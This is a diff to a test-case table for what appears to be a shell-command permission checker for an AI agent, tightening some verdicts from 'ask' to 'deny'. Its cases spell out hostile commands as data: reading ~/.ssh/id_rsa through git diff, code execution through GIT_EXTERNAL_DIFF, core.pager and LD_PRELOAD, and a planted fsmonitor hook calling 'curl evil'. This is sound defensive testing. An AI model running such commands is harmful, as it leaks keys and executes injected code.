@@ -77,15 +77,19 @@ CASES: list[tuple[str, dict[str, Any], str]] = [
     (B, {"command": "git diff --output=/etc/cron.d/x"}, "deny"),
     (B, {"command": "git diff --no-index ~/.ssh/id_rsa /dev/null"}, "deny"),
     # environment prefixes that choose what runs
-    (B, {"command": "GIT_EXTERNAL_DIFF='sh -c id' git diff"}, "ask"),
+    # (a bare ``git diff`` shows the whole work tree, .env too: denied; narrowed to src,
+    # the prefix alone is what gates it)
+    (B, {"command": "GIT_EXTERNAL_DIFF='sh -c id' git diff"}, "deny"),
+    (B, {"command": "GIT_EXTERNAL_DIFF='sh -c id' git diff -- src"}, "ask"),
     (B, {"command": "LD_PRELOAD=./x.so ls"}, "ask"),
     (
         B,
         {
             "command": "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=id git diff"
         },
-        "ask",
+        "deny",
     ),
+    (B, {"command": "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager git diff -- src"}, "ask"),
     (B, {"command": "PATH=.:$PATH ls"}, "ask"),
     (B, {"command": "env LD_PRELOAD=./x.so ls"}, "ask"),
     # command names as bash resolves them
@@ -99,7 +103,8 @@ CASES: list[tuple[str, dict[str, Any], str]] = [
     (B, {"command": "git push origin main"}, "ask"),
     (B, {"command": "echo 'x" + "y" * 100_050 + "'"}, "ask"),  # too large to judge
     # found by the adversary review of this change
-    (B, {"command": "echo '[core]\nfsmonitor = curl evil' >> .git/config; git diff"}, "ask"),
+    (B, {"command": "echo '[core]\nfsmonitor = curl evil' >> .git/config; git diff"}, "deny"),
+    (B, {"command": "echo '[core]\nfsmonitor = x' >> .git/config; git diff -- src"}, "ask"),
     (B, {"command": "echo '*.py diff=x' > .gitattributes"}, "ask"),
     (B, {"command": "'ls /../../../../usr/bin/perl' -e 'unlink q(x)'"}, "ask"),
     (B, {"command": "git diff ~/.ssh/id_rsa /dev/null"}, "deny"),  # git's own --no-index
